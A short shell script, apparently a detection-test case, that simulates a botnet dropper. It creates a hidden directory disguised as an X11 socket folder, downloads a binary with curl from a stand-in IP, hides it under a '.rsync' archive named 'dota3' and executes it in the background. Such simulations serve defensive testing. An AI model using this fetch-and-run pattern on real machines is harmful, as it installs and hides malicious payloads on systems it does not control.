#!/bin/sh
. /opt/case/case.sh

mkdir -p /tmp/.X25-unix && cd /tmp/.X25-unix
mkdir -p /tmp/make/.rsync/c
curl -s http://203.0.113.10/programs/marker -o /tmp/make/.rsync/c/tsm64
printf '#!/bin/sh\nchmod 777 c/tsm64\ncd c && ./tsm64 &\n' >/tmp/make/.rsync/initall
tar czf dota3.tar.gz -C /tmp/make .rsync && rm -rf /tmp/make
tar xf dota3.tar.gz && rm dota3.tar.gz
cd .rsync && chmod 755 initall && ./initall
wait_for /tmp/reached
took_place
